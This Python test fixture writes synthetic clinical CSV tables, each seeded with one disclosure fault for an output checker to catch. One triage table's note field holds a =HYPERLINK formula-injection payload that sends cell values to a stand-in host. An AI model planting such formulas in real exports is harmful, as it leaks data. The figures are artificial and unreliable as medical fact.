"""Delimited tables with one fault."""

from typing import Any

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs11.numbers import p_value
from tests.airlock.outputs11.tools import lines, table

SEX = {"Men": 1054, "Women": 788}


def write(shelf: Shelf) -> None:
    """Writes the cases of this file."""
    stream = shelf.random("csv")
    path = shelf.unsafe(
        "lung/egfr_by_site.csv", "small cell", "L858R, adrenal: 4",
        "Site of first metastasis by EGFR variant, non-small-cell lung cancer.",
        "1,022 adults with EGFR-mutated lung cancer",
    )  # fmt: skip
    rows: list[list[Any]] = [["variant", "bone", "brain", "liver", "adrenal", "pleura"]]
    rows += [
        ["exon 19 deletion", 171, 98, 61, 27, 84],
        ["L858R", 133, 88, 47, 4, 71],
        ["exon 20 insertion", 34, 22, 19, 11, 26],
        ["other", 41, 30, 18, 12, 25],
    ]
    table(path, rows)

    path = shelf.unsafe(
        "transplant/rejet_par_greffon.csv", "zero of a real group", "donneur vivant, perte du greffon à 1 an : 0",
        "Rejet, perte du greffon et décès à un an selon le type de donneur.",
        "611 adultes greffés du rein entre 2016 et 2021",
    )  # fmt: skip
    table(
        path,
        [
            ["donneur", "greffes", "rejet_1an", "perte_greffon_1an", "infection_CMV"],
            ["décédé, critères standards", 298, 41, 17, 66],
            ["décédé, critères élargis", 217, 38, 21, 59],
            ["vivant", 96, 13, 0, 19],
        ],
        ";",
    )

    path = shelf.unsafe(
        "obstetrics/mode_of_birth_masked.csv", "totals give the masked cell back", "breech, forceps: 41-(...) = 5",
        "Mode of birth by presentation; counts below ten were replaced by <10.",
        "2,906 women with a singleton birth",
    )  # fmt: skip
    rows = [["presentation", "spontaneous", "vacuum", "forceps", "planned caesarean", "emergency caesarean", "total"]]
    rows += [
        ["cephalic, anterior", 1620, 240, 131, 205, 214, 2410],
        ["cephalic, posterior", 97, 61, 44, 26, 102, 330],
        ["breech", 25, "<10", 14, 88, 34, 166],
        ["total", 1742, 306, 189, 319, 350, 2906],
    ]
    table(path, rows)

    path = shelf.unsafe(
        "rheumatology/flare_percentages.csv", "percentages of a small group", "tocilizumab n=61, serious infection 3.3% = 2",
        "Share of patients with each event in the first year, by biologic drug.",
        "842 adults with rheumatoid arthritis who began a biologic drug",
    )  # fmt: skip
    table(
        path,
        [
            ["drug", "n", "flare_pct", "switch_pct", "serious_infection_pct"],
            ["adalimumab", 311, 28.3, 21.2, 5.1],
            ["etanercept", 274, 30.7, 19.3, 4.4],
            ["abatacept", 196, 26.5, 17.3, 7.7],
            ["tocilizumab", 61, 31.1, 18.0, 3.3],
        ],
    )

    path = shelf.unsafe(
        "endocrinology/hba1c_by_region.csv", "SD of one", "outside the country: SD empty, n=1",
        "Mean HbA1c and its standard deviation by region of residence.",
        "1,566 adults with type 1 diabetes",
    )  # fmt: skip
    rows = [["region", "hba1c_mean", "hba1c_sd", "bmi_mean", "bmi_sd"]]
    rows += [
        [
            r,
            f"{7.4 + stream.random():.2f}",
            f"{1.1 + stream.random() / 3:.2f}",
            f"{25 + stream.random():.1f}",
            f"{4 + stream.random():.1f}",
        ]
        for r in ("Brittany", "Normandy", "Loire", "Centre", "Paris area", "North")
    ]
    rows.insert(5, ["Overseas", "9.10", "NA", "31.2", "NA"])
    table(path, rows)

    path = shelf.unsafe(
        "icu/describe_labs.csv", "minimum and maximum", "columns min and max",
        "Descriptive statistics of the laboratory values at admission to intensive care, from pandas describe().",
        "1,218 adults admitted to intensive care",
    )  # fmt: skip
    rows = [
        ["", "lactate", "creatinine", "platelets", "bilirubin"],
        ["count", 1218, 1218, 1218, 1218],
        ["mean", 2.91, 141.2, 207.4, 24.8],
        ["std", 2.4, 118.3, 104.1, 38.2],
    ]
    rows += [
        ["min", 0.41, 22, 3, 2],
        ["25%", 1.3, 71, 134, 8],
        ["50%", 2.1, 102, 196, 13],
        ["75%", 3.6, 166, 264, 24],
        ["max", 23.7, 1412, 1031, 611],
    ]
    table(path, rows)

    path = shelf.unsafe(
        "psychiatry/profiles_wide.csv", "row-level data, turned on its side", "each column P01..P36 is a patient",
        "Clinical profile grid used for the cluster analysis.",
        "36 adults with a first psychotic episode out of 412 screened",
    )  # fmt: skip
    rows = [["item", *[f"P{at:02d}" for at in range(1, 37)]]]
    for item, low, high in (
        ("age", 18, 44),
        ("PANSS_pos", 11, 36),
        ("PANSS_neg", 9, 38),
        ("GAF", 22, 68),
        ("DUP_weeks", 1, 140),
        ("CDSS", 0, 19),
    ):
        rows.append([item, *[str(stream.randint(low, high)) for _ in range(36)]])
    table(path, rows)

    path = shelf.unsafe(
        "geriatrics/ages_pyramide.csv", "single ages from 90", "lignes 90 à 95",
        "Effectifs par année d'âge et sexe à l'admission en soins de suite.",
        "patients de 75 ans et plus",
    )  # fmt: skip
    rows = [["age", "hommes", "femmes"]] + [
        [age, 14 + (96 - age) * stream.randint(3, 9), 31 + (96 - age) * stream.randint(5, 12)]
        for age in range(75, 96)
    ]
    table(path, rows, ";", before="# effectifs inférieurs à 10 absents\n")

    path = shelf.unsafe(
        "emergency/triage_summary.csv", "formula injection", "a note begins with =HYPERLINK",
        "Waiting time and admission by triage level.",
        "31,904 visits to the emergency department",
    )  # fmt: skip
    rows = [
        ["triage", "visits", "median_wait_min", "admitted_pct", "note"],
        ["1", 812, 4, 88.1, ""],
        ["2", 5210, 14, 51.6, ""],
    ]
    rows += [
        ["3", 14870, 47, 22.3, '=HYPERLINK("http://stats.example.net/c?d="&B2&B3,"method")'],
        ["4", 8904, 71, 7.4, ""],
        ["5", 2108, 66, 2.2, ""],
    ]
    table(path, rows)

    path = shelf.unsafe(
        "surgery/bariatric_rates.csv", "rate whose numerator is small", "sleeve re-do: 16.7 per 1,000 of 240 = 4 deaths",
        "Deaths within 90 days per 1,000 operations, by procedure.",
        "5,140 adults who had bariatric surgery",
    )  # fmt: skip
    rows = [
        ["procedure", "operations", "leak_per_1000", "death_90d_per_1000", "p_vs_bypass"],
        ["gastric bypass", 2400, 21.7, 5.8, ""],
        ["sleeve", 2500, 18.0, 4.4, p_value(0.7)],
        ["revision", 240, 62.5, 16.7, p_value(1.9)],
    ]
    path.write_text(lines(rows), encoding="utf-8-sig")
